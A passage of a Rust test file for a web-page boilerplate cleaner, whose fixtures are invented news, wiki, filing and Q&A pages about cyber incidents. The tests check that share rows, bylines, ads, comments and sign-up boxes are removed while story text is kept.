# Outage live

Check-in systems at the airline have been down since the early hours after what the carrier calls a cyber incident at its IT supplier.

📌 Pinned post

**08:20 BST**

### What we know so far

The supplier hosts the airline's departure control software, and passengers are advised to arrive three hours before short-haul departures.
";
    let c = clean(page, "Outage live", &no_rules());
    assert_gone(&c, &["Pinned post"]);
    assert_kept(&c, &["**08:20 BST**", "What we know", "three hours"]);
}

#[test]
fn a_labelled_share_row_under_a_bold_standfirst_ends_nothing() {
    let page = "\
# Fake wedding invitations steal bank codes

**A file sent as a wedding card forwards every bank text message to the gang, the cyber bureau warns.**

By Desk | 20 October 2026

Share: [Facebook](https://facebook.example/sharer?u=x) | [X](https://x.example/intent/post?url=x) | [WhatsApp](https://wa.example/send?text=x)

The bureau says about two hundred phones were taken over in three weeks through files that arrive from a known contact's number.

Once installed, the app asks to read text messages and forwards the one-time codes that banks send to a server the gang controls.

Share: [Facebook](https://facebook.example/sharer?u=x) | [X](https://x.example/intent/post?url=x)

## Related

* [Another story](https://news.example/other)
";
    let c = clean(
        page,
        "Fake wedding invitations steal bank codes",
        &no_rules(),
    );
    assert_kept(
        &c,
        &["A file sent as", "two hundred phones", "one-time codes"],
    );
    assert_gone(&c, &["Share:", "Another story"]);
}

#[test]
fn a_wikis_hatnote_of_a_sentence_or_two_is_not_the_lead() {
    let page = "\
# Grayfinch

*This article is about the malware family. For the group that is said to run it, see [Kite Spider](https://wiki.example/wiki/Kite_Spider).*

**Grayfinch** is an [infostealer](https://wiki.example/wiki/Infostealer) sold on forums since 2023 that takes saved passwords, cookies and crypto wallets from browsers.

## Spread

It spreads through cracked software on video sites and through fake installers for popular games, according to several vendors.
";
    let c = clean(page, "Grayfinch", &no_rules());
    assert_gone(&c, &["This article is about"]);
    assert_kept(&c, &["sold on forums", "cracked software"]);
}

#[test]
fn a_wikis_numbered_contents_inside_the_story_go_and_an_authors_list_of_parts_stays() {
    let wiki = "\
# Grayfinch

**Grayfinch** is an [infostealer](https://wiki.example/wiki/Infostealer) sold on forums since 2023 that takes saved passwords, cookies and crypto wallets from browsers.

| Grayfinch | |
|---|---|
| Type | Infostealer |

Contents

* [1 Spread](#Spread)
* [2 Technical details](#Technical_details)
* [2.1 Persistence](#Persistence)
* [3 References](#References)

## Spread

It spreads through cracked software on video sites and through fake installers for popular games, according to several vendors.

## Technical details

### Persistence

It adds a scheduled task named after a browser updater and checks in with its panel every ten minutes over HTTPS.
";
    let c = clean(wiki, "Grayfinch", &no_rules());
    assert_gone(
        &c,
        &[
            "Contents",
            "[1 Spread]",
            "[2.1 Persistence]",
            "[3 References]",
        ],
    );
    assert_kept(
        &c,
        &[
            "| Type | Infostealer |",
            "cracked software",
            "scheduled task",
        ],
    );

    let post = "\
# A backdoor hidden in an image

In this post we explore how this backdoor works and how to keep your website from becoming infected with it.

**Contents:**

* [Backdoor analysis](#analysis)
* [Mitigation steps](#mitigation)

## Backdoor analysis

The backdoor is uploaded as a fake plugin and reads its commands from the comment block of a picture it fetches.
";
    let c = clean(post, "A backdoor hidden in an image", &no_rules());
    assert_kept(
        &c,
        &[
            "**Contents:**",
            "[Backdoor analysis](#analysis)",
            "fake plugin",
        ],
    );
}

#[test]
fn a_label_of_a_few_words_over_a_banner_that_went_goes_with_it() {
    let page = "\
# Cloned voices ask for money

The police say more than fifty people have reported calls in which a cloned voice of a relative asked for money at once.

Mgbasa ozi

[![Mgbasa ozi](https://ads.news.example/b/telco-300x250.jpg)](https://ads.news.example/c?id=7720)

The callers also use numbers the victims do not know, which makes it hard to tell who is really on the line.

The police ask anyone who gets such a call to hang up and ring the relative back on a number they already know.
";
    let c = clean(page, "Cloned voices ask for money", &no_rules());
    assert_gone(&c, &["Mgbasa ozi", "telco-300x250"]);
    assert_kept(&c, &["more than fifty", "numbers the victims", "hang up"]);
}

#[test]
fn a_bold_label_over_the_sites_own_headlines_after_the_story_goes() {
    let story = "\
# Doorbell clips left open

[Home](https://news.example/) · [Technology](https://news.example/technology/)

A maker of budget smart doorbells left more than two million clips recorded by its customers' cameras on a server anyone could open.

Data protection regulators in two countries said on Monday that they were looking into the incident and had asked the company for details.

";
    let own = format!(
        "{story}**Read more:**\n\n\
         - [Your router may be the weakest device in your home](https://news.example/technology/router/)\n\
         - [Why cheap smart gadgets stop getting updates](https://news.example/technology/gadgets/)\n"
    );
    let c = clean(&own, "Doorbell clips left open", &no_rules());
    assert_gone(&c, &["Read more", "weakest device", "cheap smart gadgets"]);
    assert_kept(&c, &["two million clips", "regulators in two countries"]);

    let sources = format!(
        "{story}**Sources:**\n\n\
         - [The researchers' report on the open server](https://openlatch.example/report)\n\
         - [The regulator's statement on the incident](https://regulator.example/statement)\n"
    );
    let c = clean(&sources, "Doorbell clips left open", &no_rules());
    assert_kept(
        &c,
        &[
            "**Sources:**",
            "researchers' report",
            "regulator's statement",
        ],
    );
}

#[test]
fn a_questions_tags_sort_control_and_vote_badge_go_between_question_and_answer() {
    let page = "\
# How can I check that sshd was not replaced?

Our monitoring flagged an outbound connection from one of our web servers, coming from the sshd process.

How can I check the binary without taking the server offline?

[linux](https://qa.example/questions/tagged/linux) [ssh](https://qa.example/questions/tagged/ssh) [incident-response](https://qa.example/questions/tagged/incident-response)

Sorted by: [Highest score (default)](#)

▲ 52 ▼ ✓ Accepted

Short version: you cannot fully trust any check you run on the suspect machine itself, because an attacker can tamper with the tools too.

On Debian-based systems, the package manager keeps checksums for every file it installs, so compare against those from a clean boot.
";
    let c = clean(
        page,
        "How can I check that sshd was not replaced?",
        &no_rules(),
    );
    assert_gone(&c, &["questions/tagged", "Sorted by", "Accepted"]);
    assert_kept(&c, &["outbound connection", "Short version", "checksums"]);
    // A row of reactions with a word that is no badge stays a line.
    assert!(!is_reaction_row("▲ 52 Accepted"));
    assert!(is_reaction_row("▲ 52 ▼ ✓ Accepted"));
}

#[test]
fn a_press_releases_from_line_and_labelled_date_go() {
    let page = "\
# Providers to report cyber incidents within 24 hours

Firms that manage IT systems for schools and councils will have to report serious cyber attacks within 24 hours, under new rules.

From: [Department for Digital Resilience](https://gov.example/government/organisations/ddr) and [A. Minister MP](https://gov.example/government/people/a-minister)

Published 12 October 2026

- Providers must notify the centre of serious incidents within 24 hours
- A new duty to warn affected customers without undue delay

Providers will be legally required to report serious incidents to the national centre within a day of becoming aware of them.
";
    let c = clean(
        page,
        "Providers to report cyber incidents within 24 hours",
        &no_rules(),
    );
    assert_gone(&c, &["From:", "Published 12 October"]);
    assert_kept(
        &c,
        &["Firms that manage", "notify the centre", "legally required"],
    );
}

#[test]
fn a_players_italic_caption_under_the_title_is_not_the_storys_opening() {
    let page = "\
# Doorbell clips left open

By A. Reporter · November 17, 2026

▶ Tap to unmute

*Video: How the exposed clips were discovered (1:48)*

A maker of budget smart doorbells left more than two million clips recorded by its customers' cameras on a server anyone could open.

Data protection regulators in two countries said on Monday that they were looking into the incident.
";
    let c = clean(page, "Doorbell clips left open", &no_rules());
    assert_gone(&c, &["Tap to unmute", "How the exposed clips"]);
    assert_kept(&c, &["two million clips", "regulators in two countries"]);
}

#[test]
fn the_sites_headlines_after_the_story_go_when_their_tails_read_as_prose() {
    let page = "\
# Hospital attack was avoidable, report says

[Home](https://news.example/) · [News](https://news.example/nuacht/)

The report was published today, three months after a ransomware attack shut the group's computer systems for nine days.

The health minister said there was no evidence that patients' data had been published online.

## Tuilleadh ó Nuacht

- [Lucht feirmeoireachta ag éileamh tacaíochta breise](https://news.example/nuacht/feirmeoiri) · 2 uair an chloig ó shin
- [Stoirm Órla: rabhadh buí don Iarthar](https://news.example/aimsir/stoirm-orla) · 4 uair an chloig ó shin
";
    let c = clean(
        page,
        "Hospital attack was avoidable, report says",
        &no_rules(),
    );
    assert_gone(&c, &["Tuilleadh", "feirmeoireachta", "Stoirm"]);
    assert_kept(&c, &["nine days", "no evidence"]);
}

#[test]
fn a_share_row_with_buttons_that_hand_the_address_on_and_a_two_label_credit_go() {
    let page = "\
# Portal offline after attack

**The agency's portal for identity documents was offline for more than thirty hours after a flood of traffic and a defacement.**

Autor: **A. Reporter** | 04.11.2026. u 10:24

[Podijeli](https://www.facebook.example/sharer?u=portal) [Tweet](https://x.example/intent?u=portal) [Viber](https://viber.example/forward?u=portal)

![A laptop screen](https://static.portal.example/media/ald.jpg)

Ilustracija / Foto: PortalBiH

The agency confirmed on Wednesday that its online services had been the target of a coordinated attack that began on Monday night.

Attackers sent up to forty gigabits of traffic a second to the portal, after which its servers stopped answering.
";
    let c = clean(page, "Portal offline after attack", &no_rules());
    assert_gone(&c, &["Podijeli", "Ilustracija"]);
    assert_kept(
        &c,
        &["thirty hours", "coordinated attack", "forty gigabits"],
    );
    // A link that hands an address on, alone, is no share row.
    let alone = measure(
        "[Report](https://redirect.example/out?url=report) [PDF](https://cdn.example/r.pdf)",
    );
    assert_eq!(line_cue(&alone), None);
}

#[test]
fn a_channel_promo_naming_its_platform_over_a_bare_address_goes() {
    let page = "\
# Fake invitations target journalists

Journalists in exile have received invitations to a media conference that carry a shortcut file stealing their messenger sessions.

> 📢 Падпісвайцеся на наш Telegram-канал, каб першымі даведвацца пра важныя навіны: [t.example/site](https://t.example/site)

The file opens a real programme of the conference while a script copies the session folder to a server abroad.

The newsroom received the same lure last week and passed it to researchers, who confirmed the campaign.
";
    let c = clean(page, "Fake invitations target journalists", &no_rules());
    assert_gone(&c, &["Telegram-канал"]);
    assert_kept(&c, &["shortcut file", "session folder", "same lure"]);
}

#[test]
fn a_typo_report_widget_after_the_story_opens_the_footer_and_a_how_to_step_stays() {
    let page = "\
# Fake invitations target journalists

Journalists in exile have received invitations to a media conference that carry a shortcut file stealing their messenger sessions.

The newsroom received the same lure last week and passed it to researchers, who confirmed the campaign.

Калі вы заўважылі памылку, вылучыце яе і націсніце Ctrl+Enter.

[Another story](https://news.example/other-story)
";
    let c = clean(page, "Fake invitations target journalists", &no_rules());
    assert_gone(&c, &["Ctrl+Enter", "Another story"]);
    assert_kept(&c, &["shortcut file", "same lure"]);

    let how_to = "\
# Checking a suspicious macro safely

Open the document in the viewer that ships with the office suite, which runs no macros, and read the code before anything else.

To run the checker on the open file, paste its path into the box, then select the whole text and press Ctrl+Enter to start the scan; it reports any macro it finds together with the lines that call out to the network.
";
    let c = clean(how_to, "Checking a suspicious macro safely", &no_rules());
    assert_kept(&c, &["press Ctrl+Enter to start"]);
}

#[test]
fn a_listen_button_with_its_length_is_not_the_storys_opening() {
    let page = "\
# Two charged over hospital ransomware

By A. Reporter · November 6, 2026

Listen to this article (6 min)

Federal prosecutors on Thursday unsealed an indictment charging two men with running a ransomware operation that extorted hospitals and clinics.

The indictment accuses them of conspiracy to commit computer fraud, wire fraud conspiracy and money laundering conspiracy.
";
    let c = clean(page, "Two charged over hospital ransomware", &no_rules());
    assert_gone(&c, &["Listen to this article"]);
    assert_kept(&c, &["unsealed an indictment", "money laundering"]);
    let line = "🎧 [Hlusta á fréttina](https://news.example/a.mp3) (3 mín.)";
    assert!(is_length_button(line, &measure(line)));
    let line = "The flaw was fixed in two releases (4.2 and 4.3)";
    assert!(!is_length_button(line, &measure(line)));
}

#[test]
fn a_sponsors_box_between_two_rules_goes_whole_once_its_label_went() {
    let page = "\
# The help desk is the new perimeter

In two of the three cases, the caller used a voice that the agent later described as calm, slightly bored and very corporate.

---

**SPONSORED BY VAULTLINE**

Stop account takeover before it starts. Vaultline verifies every help desk caller with a one-tap push to a device they already own.

[Start your free trial →](https://vaultline.example/?utm_source=newsletter)

---

## What actually works

Nobody I spoke to thinks a help desk can be made perfectly resistant to social engineering, but several changes came up again and again.
";
    let c = clean(page, "The help desk is the new perimeter", &no_rules());
    assert_gone(
        &c,
        &[
            "SPONSORED BY",
            "Stop account takeover",
            "Start your free trial",
        ],
    );
    assert_kept(
        &c,
        &["slightly bored", "What actually works", "came up again"],
    );
}

#[test]
fn comments_signed_with_their_writers_page_and_time_go_and_a_timeline_stays() {
    let page = "\
# How can I check that sshd was not replaced?

Our monitoring flagged an outbound connection from one of our web servers, coming from the sshd process at night.

How can I check the binary without taking the server offline straight away?

- Is the outbound connection still happening right now? That changes the advice a lot. – [kdm](https://qa.example/users/771/kdm) Nov 8, 2026 at 21:20
- @kdm yes, roughly every ten minutes. – [nfr0st](https://qa.example/users/90314/nfr0st) Nov 8, 2026 at 21:31

Short version: you cannot fully trust any check you run on the suspect machine itself, because an attacker can tamper with the tools too.

- Vendor notified – [advisory](https://vendor.example/advisories/2026-11) Nov 8, 2026
- Patch released – [release notes](https://vendor.example/releases/4.2) Nov 20, 2026

On Debian-based systems, the package manager keeps checksums for every file it installs, so compare against those from a clean boot.
";
    let c = clean(
        page,
        "How can I check that sshd was not replaced?",
        &no_rules(),
    );
    assert_gone(&c, &["still happening", "roughly every ten"]);
    assert_kept(
        &c,
        &[
            "outbound connection from",
            "Vendor notified",
            "Patch released",
            "checksums",
        ],
    );
}

#[test]
fn a_filings_cover_page_over_a_rule_and_its_signature_block_go() {
    let page = "\
# Form 8-K — Example Freight Inc. — Cybersecurity Incident

STATE SECURITIES REGISTRY

**FORM 8-K**

**CURRENT REPORT**

Pursuant to Section 21 of the Securities Markets Act

**EXAMPLE FREIGHT INC.**

(Exact name of registrant as specified in its charter)

| Northmoor | 001-11111 | 82-0000000 |
|---|---|---|
| (State or other jurisdiction of incorporation) | (Registry File Number) | (Employer Identification No.) |

12 Harbour Road, Port Town — (Address of principal executive offices)

Registrant's telephone number, including area code: (555) 010-0000

Check the appropriate box below if the filing is intended to satisfy the filing obligation of the registrant under any of the following provisions:

☐ Written communications pursuant to Rule 425
☐ Soliciting material pursuant to Rule 14a-12

| Title of each class | Trading Symbol(s) | Name of each exchange on which registered |
|---|---|---|
| Common Stock | EXFR | Northern Securities Exchange |

---

**Explanatory Note.** On October 2 the Company detected unauthorized activity in part of its network and took its transportation systems offline to contain it.

### Item 1.05 Material Cybersecurity Incidents.

The investigation found that the threat actor deployed ransomware and, before doing so, copied a subset of files from corporate file shares to an outside server.

The incident disrupted operations at eleven of the Company's distribution centers for up to eight days, and all of them had resumed normal operations by October 6.

The Company currently estimates that the direct costs of the incident will be between fourteen and eighteen million dollars, part of which it expects insurance to cover.

**SIGNATURE**

Pursuant to the requirements of the Act, the registrant has duly caused this report to be signed on its behalf by the undersigned hereunto duly authorized.

EXAMPLE FREIGHT INC.

Date: October 9 — By: /s/ Jane Doe — Jane Doe, General Counsel
";
    let c = clean(
        page,
        "Form 8-K — Example Freight Inc. — Cybersecurity Incident",
        &no_rules(),
    );
    assert_gone(
        &c,
        &[
            "Exact name of registrant",
            "jurisdiction of incorporation",
            "Check the appropriate box",
            "Written communications",
            "SIGNATURE",
            "duly caused",
            "/s/ Jane Doe",
        ],
    );
    assert_kept(&c, &["Explanatory Note.", "Item 1.05", "copied a subset"]);
}

#[test]
fn a_dek_and_byline_over_a_rule_stay() {
    let page = "\
# Ransomware hits the county's water utility

*The utility says customers' bank details were not taken, but billing is down for a week.*

By Jane Writer

October 9, 2026

---

Ransomware encrypted the billing servers of the county's water utility on Monday, its director said, and the attackers have demanded a ransom for the stolen data.

The utility has called in outside investigators and notified the regulator, and it says water supply was never affected by the attack.
";
    let c = clean(
        page,
        "Ransomware hits the county's water utility",
        &no_rules(),
    );
    assert_kept(
        &c,
        &["bank details were not taken", "encrypted the billing"],
    );
}

#[test]
fn a_list_item_whose_link_has_a_colon_is_no_read_also_line() {
    let page = "\
# Runner token leak postmortem

A runner registration token printed in a debug build log let someone register rogue runners into our pool last week.

We rotated the token within the hour, removed the runners and audited every job they had picked up since.

## Links

- [Vendor docs: hardening self-hosted runners](https://docs.vendor.example/runners/hardening)
- [Advisory VA-2026-07: registration tokens exposed in debug logs](https://vendor.example/security/advisories/va-2026-07)

**Edit (Oct 22):** Upstream has released a runner that masks registration tokens in its debug output, thanks to everyone who replied.
";
    let c = clean(page, "Runner token leak postmortem", &no_rules());
    assert_kept(
        &c,
        &[
            "Vendor docs",
            "Advisory VA-2026-07",
            "Upstream has released",
        ],
    );
}

#[test]
fn a_sentence_label_over_links_to_other_sites_keeps_them_at_the_end() {
    let page = "\
# Water district data breach

[Home](https://news.example/) » [Tech](https://news.example/tech)

The water district confirmed on Monday that the personal data of its customers was exposed after hackers reached its billing system.

The district has opened a hotline for customers and notified the privacy regulator and the city police.

Read the official notices from the district:

[Notice about the cyber incident (PDF)](https://district.example/files/notice.pdf)
[Questions and answers for customers](https://district.example/incident/faq)

Tags: [breach](https://news.example/tag/breach) [ransomware](https://news.example/tag/ransomware)
";
    let c = clean(page, "Water district data breach", &no_rules());
    assert_kept(
        &c,
        &["Notice about the cyber incident", "Questions and answers"],
    );
}

#[test]
fn a_pull_quote_repeating_a_paragraph_goes_with_its_attribution() {
    let page = "\
# Water district refuses to pay the ransom

The water district confirmed on Monday that the personal data of its customers was exposed after hackers reached its billing system.

> **“We did not pay and we will not pay any ransom.”**
> — Lorna Cabahug, general manager

\"We did not pay and we will not pay any ransom,\" the general manager told a press conference on Tuesday afternoon.

> The attackers asked for four hundred thousand dollars within a week, the district's statement said.

The district has opened a hotline for customers and notified the privacy regulator and the city police.
";
    let c = clean(
        page,
        "Water district refuses to pay the ransom",
        &no_rules(),
    );
    assert_gone(&c, &["**“We did not pay", "— Lorna Cabahug"]);
    assert_kept(&c, &["told a press conference", "four hundred thousand"]);
}

#[test]
fn a_paginated_storys_page_marker_and_next_page_link_go_and_the_syndication_note() {
    let page = "\
# The Tollgate botnet

By Jane Writer

Page 1 of 2

A router botnet spread through a firmware bug, and its operators rented about forty thousand home connections out as residential proxies.

The operators advertised the service on two forums and took payment in cryptocurrency, according to the researchers who tracked it.

> This article originally appeared on [Example News](https://news.example/tollgate) and is republished here under a syndication agreement.

[Continue to page 2: Following the money →](https://site.example/features/tollgate?page=2)

Page 1 of 2
";
    let c = clean(page, "The Tollgate botnet", &no_rules());
    assert_gone(
        &c,
        &["Page 1 of 2", "Continue to page 2", "originally appeared"],
    );
    assert_kept(&c, &["residential proxies", "took payment"]);
    assert!(is_page_marker("Seite 1 von 2"));
    assert!(!is_page_marker("Top 10 of 2026"));
}

#[test]
fn an_embedded_post_goes_whole_with_its_link_to_the_platform() {
    let page = "\
# Town hall shuts its counters after ransomware

The town hall's servers were encrypted on Monday night and a ransom of eighty thousand euros was demanded, the mayor said.

The library, the school canteens and the website were all hit; the phones and the e-mail work again since Tuesday.

[![Town Hall](https://social.example/avatars/townhall.png)](https://social.example/townhall)

**Town Hall** @townhall · [Follow](https://social.example/townhall)

Our counters stay closed until Wednesday. We apologise for the trouble this causes.

[10:05 AM · Nov 10, 2026](https://social.example/townhall/status/881) · ♥ 214 · 🔁 96

[View on Social](https://social.example/townhall/status/881)

The first findings point to the VPN account of a former employee that had never been closed after he left his job.

The group behind the attack published the town's name on its leak site and claims to have stolen sixty gigabytes of files.
";
    let c = clean(
        page,
        "Town hall shuts its counters after ransomware",
        &no_rules(),
    );
    assert_gone(
        &c,
        &[
            "**Town Hall**",
            "Our counters stay closed",
            "♥ 214",
            "View on Social",
        ],
    );
    assert_kept(
        &c,
        &["former employee", "sixty gigabytes", "school canteens"],
    );
    assert!(has_counted_pictograph("👁 12.4K · 14:02"));
    assert!(!has_counted_pictograph("9:02 · 2 Nov 2026"));
}

#[test]
fn a_channel_box_linking_a_platform_folder_and_a_newsletter_box_asking_to_subscribe_go() {
    let page = "\
# Marketplace for stolen access taken down

Police from six countries have taken down an invite-only marketplace that sold remote access to the networks of companies.

📲 **Join our channel** — the big stories straight to your phone. [Join now here](https://channels.news.example/whatsapp)

The two suspected administrators were arrested in coordinated raids, and the servers were seized in two data centres.

📰 **Get the Daily Brief** — the top ten security stories, curated every morning. [Subscribe free](https://hub.example/brief)

Investigators said the marketplace had acted as a supply chain for several ransomware groups over the last three years.
";
    let c = clean(
        page,
        "Marketplace for stolen access taken down",
        &no_rules(),
    );
    assert_gone(&c, &["Join our channel", "Get the Daily Brief"]);
    assert_kept(&c, &["coordinated raids", "supply chain", "invite-only"]);
}

#[test]
fn a_length_button_with_its_link_goes_inside_the_story_in_any_scripts_digits() {
    let page = "\
# Fake loan apps: five arrested

*The ring blackmailed borrowers with the photos and contacts their apps had taken from their phones.*

🔊 [বাতৰিটো শুনক](#audio-player) (৩ মিনিট)

Police arrested five people on Tuesday who ran two fake instant-loan apps and took about a crore of rupees from borrowers.

The apps asked for access to contacts, photos and messages when they were installed, and the ring used them to threaten borrowers.
";
    let c = clean(page, "Fake loan apps: five arrested", &no_rules());
    assert_gone(&c, &["audio-player"]);
    assert_kept(&c, &["blackmailed borrowers", "five people", "threaten"]);
}

#[test]
fn an_inline_comment_closing_with_buttons_that_go_nowhere_goes() {
    let page = "\
# INC-0917: CI token published a malicious package

A fork's pull request ran code on a self-hosted runner, and the publishing token it stole put a malicious release online.

💬 **Lena Fischer** · Sep 20 — Should we link the hardening RFC here? · [Reply](#) · [Resolve](#)

The malicious release was live for forty-seven minutes before the registry removed it at our request on the same day.
";
    let c = clean(
        page,
        "INC-0917: CI token published a malicious package",
        &no_rules(),
    );
    assert_gone(&c, &["Lena Fischer"]);
    assert_kept(&c, &["self-hosted runner", "forty-seven minutes"]);
}

#[test]
fn a_byline_with_its_authors_page_two_dates_and_times_goes() {
    let page = "\
# Three held over fake ferry tickets

*Police took apart a ring that sold fake tickets on copies of a ferry company's site.*

Da [Ghjuvan Luciani](https://news.example/autori/gl) · Publicatu u 4 di nuvembre 2026 à 18:20 · Mudificatu u 6 di nuvembre 2026 à 09:05

Three men were arrested on Tuesday, accused of setting up about ten sites that imitated the ferry company's own.

The clone sites came first in search results thanks to paid ads, and buyers found out only at the port.
";
    let c = clean(page, "Three held over fake ferry tickets", &no_rules());
    assert_gone(&c, &["Publicatu"]);
    assert_kept(&c, &["took apart", "Three men", "paid ads"]);
}

#[test]
fn a_callout_naming_its_platform_and_one_over_a_section_of_links_go() {
    let page = "\
[Home](https://news.example/) · [Episodes](https://news.example/episodes) · [About](https://news.example/about)

# Botnet pulls in 12,000 home routers

The botnet exploits a flaw in a popular router brand and has been used to flood bank sites with traffic this month.

> 📢 **Our news on Telegram!** The main stories first — [join here](https://tg.example/ournews)

Owners rarely notice anything apart from a slightly slower connection, the researchers said in their report.

> 💛 **Support the show.** We are listener-funded. [Become a member](https://news.example/support) for early episodes.

## Links mentioned

- [The researchers' report](https://lab.example/report)
- [The vendor's advisory](https://vendor.example/advisory)
";
    let c = clean(page, "Botnet pulls in 12,000 home routers", &no_rules());
    assert_gone(&c, &["Telegram", "listener-funded"]);
    assert_kept(
        &c,
        &["flood bank", "slower connection", "vendor's advisory"],
    );
}

#[test]
fn a_wiki_talk_pages_signed_posts_and_replies_go() {
    let page = "\
# Incident log: mirror compromise

On 6 November an attacker used a stolen key to push a modified package to one of the volunteer mirrors for about a day.

Clients with default settings rejected the package because its signature did not verify, so most users were safe.

:: Do we know the figure is unique hosts? — [Orla](https://wiki.example/wiki/User:Orla) ([talk](https://wiki.example/wiki/User_talk:Orla)) 10:02, 9 November 2026 (UTC)

### Timeline

- 2026-11-06 02:14 UTC — the attacker logs in to the upload host with the stolen key
- 2026-11-07 09:55 UTC — the mirror is removed from the public rotation

## Should we name the operator?

Should the summary name the volunteer who runs it? — [Orla](https://wiki.example/wiki/User:Orla) ([talk](https://wiki.example/wiki/User_talk:Orla)) 09:10, 9 November 2026 (UTC)
: No, the mirror's name is enough. — [Piet](https://wiki.example/wiki/User:Piet) ([talk](https://wiki.example/wiki/User_talk:Piet)) 09:48, 9 November 2026 (UTC)
";
    let c = clean(page, "Incident log: mirror compromise", &no_rules());
    assert_gone(
        &c,
        &["unique hosts", "name the operator", "volunteer who runs"],
    );
    assert_kept(&c, &["stolen key", "did not verify", "public rotation"]);
}

#[test]
fn a_sign_up_box_closed_by_its_button_to_the_newsletter_page_goes_without_rules() {
    let page = "\
# Customer data stolen from a power utility

Attackers logged in to the utility's VPN with a stolen password and copied the records of about 4,200 customers.

**News by e-mail**
Get the main stories every morning.
[Sign up here](https://news.example/kl/nyhedsbrev)

The utility said the power supply was not affected, as its control systems sit on a separate network.
";
    let c = clean(
        page,
        "Customer data stolen from a power utility",
        &no_rules(),
    );
    assert_gone(&c, &["News by e-mail", "every morning", "nyhedsbrev"]);
    assert_kept(&c, &["stolen password", "separate network"]);
}

#[test]
fn an_official_notices_signature_block_goes_between_its_clauses_and_schedule() {
    let page = "\
# Directions after a port ransomware incident

These Directions are made under section 12 of the Cyber Security Act and apply to every designated entity named in the Schedule.

**1. Duty to search.** A designated entity shall search its systems for the indicators in Part B of the Schedule within seven days.

Made at Wellmoor City this 15th day of October, 2026.

**A. N. KESTREL-BOYD,**
*Minister for Digital Affairs.*

(MDA/CS/7/14/Vol. III)

## SCHEDULE

1. Harbourline Port Logistics Ltd
2. Wellmoor Ports Authority
";
    let c = clean(
        page,
        "Directions after a port ransomware incident",
        &no_rules(),
    );
    assert_gone(&c, &["Made at", "KESTREL", "Minister for", "MDA/CS"]);
    assert_kept(
        &c,
        &[
            "section 12",
            "Duty to search",
            "SCHEDULE",
            "Ports Authority",
        ],
    );
}

#[test]
fn a_row_of_page_tools_going_nowhere_ends_the_story_with_what_follows() {
    let page = "\
# Directions after a port ransomware incident

These Directions require designated entities connected with the port operator to search their systems for the indicators of the intrusion, to report any finding to the agency within twenty-four hours and to preserve evidence.

The Directions expire on 30 November 2026 unless they are extended by a notice published in the Gazette before that date, as the Act requires for every direction made under it.

[Download signed PDF (312 KB)](https://gazette.example/gn-1184.pdf) · [Print](#) · [Cite this notice](#)

*Certified a true copy. — Government Printer*
";
    let c = clean(
        page,
        "Directions after a port ransomware incident",
        &no_rules(),
    );
    assert_gone(&c, &["signed PDF", "Certified a true copy"]);
    assert_kept(&c, &["twenty-four hours", "30 November 2026"]);
}

#[test]
fn the_story_starts_under_a_log_of_the_pages_edits() {
    let page = "\
# Talk:Mirror compromise

*This is the talk page for discussing improvements to the incident log entry. Sign your posts with four tildes.*

## Recent changes to this page

- [cur](https://wiki.example/w/index.php?diff=0&oldid=48213) [prev](https://wiki.example/w/index.php?diff=48213) 18:42, 9 November 2026 [Kettleby](https://wiki.example/wiki/User:Kettleby) . . (+1,204) . . (→Incident summary: add the Sigma rule for the hook)
- [cur](https://wiki.example/w/index.php?diff=0&oldid=48190) [prev](https://wiki.example/w/index.php?diff=48190) 11:17, 9 November 2026 [Orla](https://wiki.example/wiki/User:Orla) . . (+96) . . (→Should we name the operator?: reply)

## Incident summary (draft)

On 6 November 2026 an attacker used a stolen rsync key to push a modified package to one of the volunteer mirrors for about 31 hours.

Clients with default settings rejected the package because its signature did not verify, so most users were not affected at all.
";
    let c = clean(page, "Talk:Mirror compromise", &no_rules());
    assert_gone(&c, &["talk page for discussing", "Recent changes", "(+96)"]);
    assert_kept(&c, &["stolen rsync key", "did not verify"]);
}

#[test]
fn a_gated_reports_form_goes_with_its_teaser_and_the_story_goes_on_under_it() {
    let page = "\
# Inside a loader sold to ransomware crews

Since March our team has followed a loader that three ransomware crews rent by the week, and this page gives the summary of what we found in that time.

The loader arrives in fake invoice mails and fetches its second stage from rented servers that change every few days, which makes blocking by address weak.

## Download the whitepaper

The whitepaper covers:

* the crews that rent it
* every server we saw
* rules for mail gateways

First name*

Work email*

Company*

☐ I agree to receive updates from the vendor. You can unsubscribe at any time. See our [privacy notice](https://vendor.example/privacy/).

[Download PDF]

## Indicators

A handful of indicators from the paper is given here so that defenders can start looking for the loader today.

| Type | Value |
|---|---|
| IPv4 | 192.0.2.77 |
| Domain | `invoice-cdn.example` |
";
    let c = clean(
        page,
        "Inside a loader sold to ransomware crews",
        &no_rules(),
    );
    assert_gone(
        &c,
        &[
            "Download the whitepaper",
            "every server we saw",
            "First name",
            "I agree",
        ],
    );
    assert_kept(&c, &["fake invoice mails", "## Indicators", "192.0.2.77"]);
}

#[test]
fn a_feedback_widget_may_send_its_answers_to_one_address() {
    let page = "\
# Penalty for a courier's data breach

The regulator fined a courier firm after attackers copied the addresses of two hundred thousand customers from an unpatched server last spring.

The firm has four weeks to appeal, and it must delete old records and bring in an outside auditor within six months of the notice.

**Was this page useful?** [Yes](https://regulator.example/feedback?useful=yes) [No](https://regulator.example/feedback?useful=no)

[Report a problem with this page](https://regulator.example/feedback/problem)

All content is available under an open licence, except where otherwise stated.
";
    let c = clean(page, "Penalty for a courier's data breach", &no_rules());
    assert_gone(
        &c,
        &["Was this page useful", "Report a problem", "open licence"],
    );
    assert_kept(&c, &["four weeks to appeal"]);
}

#[test]
fn the_headers_short_lines_under_a_standfirst_and_page_controls_go() {
    let page = "\
# Routers pulled into a botnet

*Researchers say a botnet is taking over old home routers through a flaw in their web panel and renting them out for attacks.*

Mara Quill

Published 7 April 2026, 08:20

4 min read

🔊 Listen to this story 00:00 / 03:52

About eighteen thousand home and office routers have been taken over in three weeks, the researchers said in a report published on Monday.

The maker released a patch in February, but most owners never updated the firmware, so the flaw is still open on most of the devices.

Sort by: **Newest** ▾
";
    let c = clean(page, "Routers pulled into a botnet", &no_rules());
    assert_gone(
        &c,
        &["Mara Quill", "4 min read", "00:00 / 03:52", "Sort by"],
    );
    assert_kept(
        &c,
        &["Researchers say", "eighteen thousand", "never updated"],
    );
}
